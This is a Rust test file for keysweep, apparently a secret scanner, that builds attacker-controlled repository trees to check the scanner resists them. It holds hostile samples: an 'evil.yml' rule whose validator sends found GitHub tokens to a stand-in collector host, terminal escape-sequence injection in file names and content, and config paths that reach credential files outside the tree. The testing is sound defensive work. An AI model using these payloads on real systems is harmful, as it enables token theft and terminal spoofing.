//! Hostile repositories (issue 18): each case builds a tree an attacker could
//! commit, runs keysweep on it and checks what a user expects — no panic or
//! abort, bounded time, the secret still found where it should be, and no
//! raw secret (or outside file) in any output.
//!
//! The table runs every case the same way; a case only says how to build
//! the tree, what to run and what must (not) appear.

use std::path::Path;
use std::time::{Duration, Instant};

use crate::common::{Env, Fake};

/// What a run produced.
pub(crate) struct Run {
    pub code: i32,
    pub stdout: String,
    pub stderr: String,
    pub secs: f64,
}

impl Run {
    pub fn all(&self) -> String {
        format!("{}\n{}", self.stdout, self.stderr)
    }
}

/// Runs keysweep with a time limit; a crash (signal, panic exit 101) fails.
/// The limits catch hangs, not slowness: they hold on a loaded 2-core
/// machine running a debug build.
pub(crate) fn run(env: &Env, args: &[String], limit: Duration) -> Run {
    let start = Instant::now();
    let out = env
        .cmd()
        .args(args)
        .timeout(limit)
        .output()
        .expect("keysweep runs");
    let run = Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        secs: start.elapsed().as_secs_f64(),
    };
    assert!(
        run.code != -1 && run.code != 101,
        "crashed or timed out (code {}) after {:.1}s\nstderr: {}",
        run.code,
        run.secs,
        run.stderr
    );
    run
}

fn args(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| s.to_string()).collect()
}

/// One hostile case.
struct Case {
    name: &'static str,
    /// Builds the tree in `env` (with `outside`, a directory that is not part
    /// of the scanned tree) and returns keysweep's arguments.
    build: fn(&Env, &Path, &str) -> Vec<String>,
    /// Text that must appear in stdout or stderr.
    expect: &'static [&'static str],
    /// Whether the secret must be reported (redacted) as a finding.
    found: bool,
}

/// A file outside the scanned tree that holds a secret, as `/proc/self/environ`
/// or `~/.aws/credentials` would.
fn outside_secret(outside: &Path, secret: &str) -> String {
    let p = outside.join("credentials");
    std::fs::write(&p, format!("GITHUB_TOKEN={secret}\n")).unwrap();
    p.display().to_string()
}

/// `n` distinct AWS access key ids (public identifiers, shown in full, so
/// fake enough) joined by `sep`, built at run time.
fn many_keys(n: usize, sep: &str) -> String {
    let mut fake = Fake::new(n as u64);
    (0..n)
        .map(|_| {
            format!(
                "AKIA{}",
                fake.string("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
            )
        })
        .collect::<Vec<_>>()
        .join(sep)
        + sep
}

const CASES: &[Case] = &[
    // Item 1: paths named by configs found in the tree stay inside it.
    Case {
        name: "gitleaks extend path outside the tree",
        build: |env, outside, secret| {
            let p = outside_secret(outside, secret);
            env.write(".gitleaks.toml", format!("[extend]\npath = {p:?}\n"));
            args(&["scan", "."])
        },
        expect: &["outside the scanned tree"],
        found: false,
    },
    Case {
        name: "keysweep.toml gitleaks_config outside the tree",
        build: |env, outside, secret| {
            let p = outside_secret(outside, secret);
            env.write("keysweep.toml", format!("gitleaks_config = {p:?}\n"));
            args(&["scan", "."])
        },
        expect: &["gitleaks_config", "outside the scanned tree"],
        found: false,
    },
    Case {
        name: "keysweep.toml gitleaks_config is /dev/stdin",
        build: |env, _, _| {
            env.write("keysweep.toml", "gitleaks_config = \"/dev/stdin\"\n");
            args(&["scan", "."])
        },
        expect: &["outside the scanned tree"],
        found: false,
    },
    Case {
        name: "keysweep.toml rules.paths outside the tree",
        build: |env, outside, secret| {
            let p = outside_secret(outside, secret);
            env.write("keysweep.toml", format!("[rules]\npaths = [{p:?}]\n"));
            args(&["scan", "."])
        },
        expect: &["rules.paths", "outside the scanned tree"],
        found: false,
    },
    Case {
        name: "keysweep.toml baseline outside the tree",
        build: |env, outside, secret| {
            let p = outside_secret(outside, secret);
            env.write("keysweep.toml", format!("baseline = {p:?}\n"));
            args(&["scan", "."])
        },
        expect: &["baseline", "outside the scanned tree"],
        found: false,
    },
    Case {
        name: "symlink inside the tree to a file outside",
        build: |env, outside, secret| {
            let p = outside_secret(outside, secret);
            std::os::unix::fs::symlink(&p, env.path().join("base.toml")).unwrap();
            env.write(".gitleaks.toml", "[extend]\npath = \"base.toml\"\n");
            args(&["scan", "."])
        },
        expect: &["outside the scanned tree"],
        found: false,
    },
    Case {
        name: "gitleaks extend path names a .env in the tree: no echo",
        build: |env, _, secret| {
            env.write(".env", format!("A=1\nGITHUB_TOKEN={secret} # x\n"));
            env.write(".gitleaks.toml", "[extend]\npath = \".env\"\n");
            args(&["scan", ".gitleaks.toml"])
        },
        expect: &[".env", "line 2"],
        found: false,
    },
    Case {
        name: "rules.paths names a .env in the tree: YAML error does not echo",
        build: |env, _, secret| {
            env.write(".env", format!("- a\nb: {secret}\n"));
            env.write("keysweep.toml", "[rules]\npaths = [\".env\"]\n");
            args(&["scan", "keysweep.toml"])
        },
        expect: &[".env"],
        found: false,
    },
    Case {
        name: "keysweep.toml that is not TOML: no echo",
        build: |env, _, secret| {
            env.write("keysweep.toml", format!("token: \"{secret}\"\n"));
            args(&["scan", "."])
        },
        expect: &["keysweep.toml", "line 1"],
        found: false,
    },
    // Item 9: nesting deep enough to overflow a recursive parser is a
    // counted fallback to plain text, and the secret is still found.
    Case {
        name: "YAML nested 10,000 deep in a CI file",
        build: |env, _, secret| {
            env.write(".gitlab-ci.yml", "- ".repeat(10_000) + secret + "\n");
            args(&["scan", "."])
        },
        expect: &[".gitlab-ci.yml", "deeper than"],
        found: true,
    },
    Case {
        name: "YAML nested 10,000 deep in a workflow",
        build: |env, _, secret| {
            env.write(
                ".github/workflows/ci.yml",
                format!("env:\n  T: {secret}\nx: {}\n", "[".repeat(10_000)),
            );
            args(&["scan", "."])
        },
        expect: &["ci.yml"],
        found: true,
    },
    Case {
        name: "JSON nested 100,000 deep in an MCP config",
        build: |env, _, secret| {
            env.write(
                ".mcp.json",
                format!("{{\"t\": \"{secret}\", \"x\": {}}}", "[".repeat(100_000)),
            );
            args(&["scan", "."])
        },
        expect: &[".mcp.json"],
        found: true,
    },
    // Item 12: a baseline header does not hide the rest of the file.
    Case {
        name: "a secret behind a baseline header",
        build: |env, _, secret| {
            env.write(
                "notes.jsonl",
                format!("{{\"keysweep_baseline\":1,\"salt\":\"00\"}}\ntoken={secret}\n"),
            );
            args(&["scan", "."])
        },
        expect: &[],
        found: true,
    },
    // Item 10: time is O(n log n) in the findings of one file (80,000 on
    // lines, 20,000 on one line took 30 s and 22 s, release build).
    Case {
        name: "40,000 findings in one file",
        build: |env, _, secret| {
            env.write("keys.txt", many_keys(40_000, "\n") + secret + "\n");
            args(&["scan", "."])
        },
        expect: &[],
        found: true,
    },
    Case {
        name: "20,000 findings on one line",
        build: |env, _, secret| {
            env.write("keys.txt", many_keys(20_000, " ") + secret + "\n");
            args(&["scan", "."])
        },
        expect: &[],
        found: true,
    },
    Case {
        name: "10,000 findings in two versions of a file in history",
        build: |env, _, secret| {
            let repo = crate::repo::Repo::init(env.path());
            repo.commit_files(&[("keys.txt", &many_keys(10_000, "\n"))], "one");
            repo.commit_files(&[("keys.txt", &format!("{secret}\n"))], "two");
            args(&["git", "."])
        },
        expect: &[],
        found: true,
    },
    // Item 11: a corrupt commit is named and skipped; the rest is scanned.
    Case {
        name: "a corrupt commit object in history",
        build: |env, _, secret| {
            let repo = crate::repo::Repo::init(env.path());
            let first = repo.commit_files(&[("a.txt", "a\n")], "one");
            repo.commit_files(&[("b.txt", &format!("t={secret}\n"))], "two");
            let hex = first.to_string();
            let obj = env
                .path()
                .join(".git/objects")
                .join(&hex[..2])
                .join(&hex[2..]);
            std::fs::remove_file(&obj).unwrap();
            std::fs::write(&obj, b"garbage").unwrap();
            args(&["git", "."])
        },
        expect: &["cannot be read, skipped"],
        found: true,
    },
    // Item 17: a UTF-8 byte order mark does not break MCP JSON parsing.
    Case {
        name: "MCP config with a UTF-8 BOM",
        build: |env, _, secret| {
            let url = format!("https://x.example/mcp?token={secret}");
            let json = format!("{{\"mcpServers\": {{\"s\": {{\"url\": \"{url}\"}}}}}}\n");
            env.write(
                ".mcp.json",
                [b"\xEF\xBB\xBF".as_slice(), json.as_bytes()].concat(),
            );
            args(&["scan", "."])
        },
        expect: &["\"mcp_server\": \"s\""],
        found: true,
    },
    // JSON escaped in strings: each level is undone in one pass, however
    // many escapes a line holds.
    Case {
        name: "a 2 MB line of JSON escapes around an escaped secret",
        build: |env, _, secret| {
            let mut line = "\\\\\\\"".repeat(500_000);
            line.push_str(&format!("token\\\\\\\": \\\\\\\"{secret}\\\\\\\"\n"));
            env.write("app.log", line);
            args(&["scan", "."])
        },
        expect: &[],
        found: true,
    },
    // Item 13: thread counts are validated.
    Case {
        name: "-j 100000",
        build: |_, _, _| args(&["scan", ".", "-j", "100000"]),
        expect: &["at most 1024"],
        found: false,
    },
    Case {
        name: "sweep --jobs 100000",
        build: |env, _, _| {
            env.write("repos.txt", "\n");
            args(&["sweep", "--repos", "repos.txt", "--jobs", "100000"])
        },
        expect: &["at most 1024"],
        found: false,
    },
];

#[test]
fn hostile_trees() {
    let mut failures = Vec::new();
    for (i, case) in CASES.iter().enumerate() {
        let env = Env::new();
        let outside = tempfile::tempdir().unwrap();
        let secret = Fake::new(1800 + i as u64).github_pat();
        let mut a = (case.build)(&env, outside.path(), &secret);
        a.extend(args(&["-f", "json"]));
        let r = run(&env, &a, Duration::from_secs(120));
        let all = r.all();
        if all.contains(&secret) {
            failures.push(format!("{}: raw secret in output:\n{all}", case.name));
        }
        for e in case.expect {
            if !all.contains(e) {
                failures.push(format!("{}: expected {e:?} in output:\n{all}", case.name));
            }
        }
        let n = serde_json::from_str::<serde_json::Value>(&r.stdout)
            .ok()
            .and_then(|j| j["findings"].as_array().map(Vec::len))
            .unwrap_or(0);
        if case.found && n == 0 {
            failures.push(format!("{}: secret not found:\n{all}", case.name));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
}

/// Item 4: `--trust-rule-validators` trusts the user's own `--rules`, never a
/// rule file that a config found in the scanned tree loads.
#[test]
fn trust_does_not_extend_to_rules_from_the_scanned_tree() {
    use crate::validate::{Reply, Server};
    let collector = Server::start(|_, _| Reply::new(200, "{}"));
    let env = Env::new();
    let rule = r#"
rules:
  - id: harvest-github
    name: Harvest
    keywords: [ghp_]
    pattern: '\b(ghp_[A-Za-z0-9]{36})\b'
    validate:
      url: https://collector.example/{{secret}}
      live: {status: [200]}
      invalid: {status: [401]}
"#;
    env.write("evil.yml", rule);
    env.write(
        "keysweep.toml",
        "[rules]\npaths = [\"evil.yml\"]\ninclude = [\"harvest-github\"]\n",
    );
    env.write("t.txt", format!("x={}\n", Fake::new(1850).github_pat()));
    let endpoint = format!("evil={}", collector.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--trust-rule-validators",
        "--endpoint",
        &endpoint,
    ]);
    let f = &crate::common::findings(&json)[0];
    assert_eq!(f["validation"]["status"], "not-checked", "{f}");
    let detail = f["validation"]["detail"].as_str().unwrap();
    assert!(detail.contains("scanned tree"), "{detail}");
    assert!(collector.requests().is_empty());

    // The same file given by the user with the flag is trusted.
    let (_, json) = env.scan_json(&[
        "t.txt",
        "--no-config",
        "--rules",
        "evil.yml",
        "--rule",
        "harvest-github",
        "--validate",
        "--allow-internal",
        "--trust-rule-validators",
        "--endpoint",
        &endpoint,
    ]);
    let f = &crate::common::findings(&json)[0];
    assert_eq!(f["validation"]["status"], "live", "{f}");
    assert_eq!(collector.requests().len(), 1);
}

/// Item 5: a token in a repository URL is never shown or stored.
#[test]
fn tokens_in_repository_urls_are_not_shown_or_stored() {
    let env = Env::new();
    let token = Fake::new(1851).github_pat();
    // Nothing listens on port 9 of loopback: the fetch fails and the error
    // names the URL.
    env.write(
        "repos.txt",
        format!("http://x:{token}@127.0.0.1:9/o/r.git\nhttp://{token}@127.0.0.1:9/o/s.git\n"),
    );
    let r = run(
        &env,
        &args(&[
            "sweep",
            "--repos",
            "repos.txt",
            "--cache",
            "cache",
            "--datastore",
            "store.db",
            "-f",
            "json",
        ]),
        Duration::from_secs(60),
    );
    assert!(r.stderr.contains("127.0.0.1:9"), "{}", r.stderr);
    assert!(!r.all().contains(&token), "{}", r.all());
    let store = std::fs::read(env.path().join("store.db")).unwrap();
    let needle = token.as_bytes();
    assert!(
        !store.windows(needle.len()).any(|w| w == needle),
        "token stored in the datastore"
    );
}

/// Item 7: a report that may hold secrets is created readable by its owner only.
#[cfg(unix)]
#[test]
fn reports_with_secrets_are_created_private() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    env.write("t.txt", format!("x={}\n", Fake::new(1852).github_pat()));
    env.write("old.json", "{}");
    std::fs::set_permissions(
        env.path().join("old.json"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    for out in ["new.json", "old.json"] {
        run(
            &env,
            &args(&["scan", "t.txt", "--show-secrets", "-f", "json", "-o", out]),
            Duration::from_secs(120),
        );
        let mode = std::fs::metadata(env.path().join(out))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{out}");
    }
}

/// Item 8: control characters from file names and content never reach the
/// terminal raw.
#[test]
fn control_characters_are_escaped_in_human_output() {
    let env = Env::new();
    let secret = Fake::new(1853).github_pat();
    let name = "a\u{1b}]52;c;aGk=\u{7}\r.txt";
    env.write(
        name,
        format!("t={secret}\r\u{1b}[2K\u{1b}[1Aall clean \u{9b}2K\n"),
    );
    let r = run(&env, &args(&["scan", "."]), Duration::from_secs(120));
    assert_eq!(r.code, 1, "{}", r.stderr);
    for c in ['\u{1b}', '\r', '\u{7}', '\u{9b}'] {
        assert!(!r.stdout.contains(c), "{c:?} in {:?}", r.stdout);
        assert!(!r.stderr.contains(c), "{c:?} in {:?}", r.stderr);
    }
    assert!(r.stdout.contains("\\u{1b}"), "{}", r.stdout);
}

// ---------------------------------------------------------------- item 21

/// `git ARGS` in `dir`, failing the test when git fails.
fn git_in(dir: &Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.org",
            "-c",
            "gc.auto=0",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .status()
        .unwrap()
        .success();
    assert!(ok, "git {args:?}");
}

#[test]
fn a_truncated_pack_is_named_with_its_cause_and_the_rest_is_scanned() {
    let env = Env::new();
    let dir = env.path().join("repo");
    std::fs::create_dir(&dir).unwrap();
    git_in(&dir, &["init", "-q"]);
    let mut fake = Fake::new(2101);
    for i in 0..3 {
        std::fs::write(
            dir.join(format!("f{i}.txt")),
            fake.string("abcdefghij", 20_000),
        )
        .unwrap();
        git_in(&dir, &["add", "."]);
        git_in(&dir, &["commit", "-qm", &format!("c{i}")]);
    }
    git_in(&dir, &["gc", "-q"]);
    // The newest commit stays loose and readable.
    let secret = fake.github_pat();
    std::fs::write(dir.join(".env"), format!("GITHUB_TOKEN={secret}\n")).unwrap();
    git_in(&dir, &["add", "."]);
    git_in(&dir, &["commit", "-qm", "secret"]);
    let packs: Vec<_> = std::fs::read_dir(dir.join(".git/objects/pack"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "pack"))
        .collect();
    assert_eq!(packs.len(), 1);
    let len = std::fs::metadata(&packs[0]).unwrap().len();
    let mut perm = std::fs::metadata(&packs[0]).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    perm.set_readonly(false);
    std::fs::set_permissions(&packs[0], perm).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&packs[0])
        .unwrap()
        .set_len(len / 2)
        .unwrap();

    let r = run(&env, &args(&["git", "repo"]), Duration::from_secs(120));
    assert_eq!(r.code, 2, "{}", r.stderr);
    let pack = packs[0].file_name().unwrap().to_string_lossy().into_owned();
    // One line names the repository, counts what was lost, names the
    // damaged pack and why; the secret in the readable commit is found.
    let line = r
        .stderr
        .lines()
        .find(|l| l.starts_with("keysweep: repo: "))
        .unwrap_or_else(|| panic!("no summary naming the repository:\n{}", r.stderr));
    assert!(
        line.contains("could not be read") && line.contains(&pack) && line.contains("truncated"),
        "{line}"
    );
    assert!(r.stdout.contains(".env"), "{}", r.all());
    assert!(!r.all().contains(&secret), "{}", r.all());
}

#[test]
fn an_oversized_history_blob_is_skipped_unread_named_and_counted() {
    let env = Env::new();
    let dir = env.path().join("repo");
    std::fs::create_dir(&dir).unwrap();
    git_in(&dir, &["init", "-q"]);
    std::fs::write(dir.join("big.txt"), "x".repeat(3 << 20)).unwrap();
    std::fs::write(dir.join("small.txt"), "hello\n").unwrap();
    git_in(&dir, &["add", "."]);
    git_in(&dir, &["commit", "-qm", "one"]);
    let out = env
        .cmd()
        .args(["git", "repo", "--max-file-size", "1M", "-f", "json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("(big.txt): skipped: larger than --max-file-size (3145728 bytes"),
        "{stderr}"
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["summary"]["skipped"]["too-large"], 1, "{json}");
}

#[test]
fn an_error_cause_is_printed_once() {
    let env = Env::new();
    env.write("a.txt", "hello\n");
    let r = run(
        &env,
        &args(&["scan", "--rules", "missing.yml", "."]),
        Duration::from_secs(60),
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("missing.yml"), "{}", r.stderr);
    assert_eq!(
        r.stderr.matches("No such file or directory").count(),
        1,
        "{}",
        r.stderr
    );
}

#[test]
fn a_large_structured_file_is_scanned_as_text_within_bounded_memory() {
    // 12 MB of small JSON values in an MCP config: the document tree took
    // about 23 times that; over the parse limit it is scanned as text.
    let env = Env::new();
    let secret = Fake::new(2104).github_pat();
    let mut body = String::from("{\"mcpServers\": {\"x\": {\"env\": {\"GITHUB_TOKEN\": \"");
    body.push_str(&secret);
    body.push_str("\"}}}, \"data\": [");
    body.push_str(&"1,".repeat(6 << 20));
    body.push_str("1]}\n");
    env.write(".mcp.json", body);
    // RLIMIT_DATA bounds heap and anonymous memory: the tree needed ~280 MB.
    let bin = assert_cmd::cargo::cargo_bin("keysweep");
    let out = std::process::Command::new("sh")
        .args(["-c", "ulimit -d 200000 && exec \"$0\" \"$@\""])
        .arg(&bin)
        .args(["scan", ".", "-f", "json", "--max-file-size", "64M"])
        .current_dir(env.path())
        .env("KEYSWEEP_ID_KEY", "keysweep-tests")
        .env_remove("KEYSWEEP_CONFIG")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(".mcp.json") && stderr.contains("scanned as plain text"),
        "{stderr}"
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["summary"]["format_fallbacks"], 1, "{json}");
    assert_eq!(json["findings"].as_array().unwrap().len(), 1, "{json}");
}
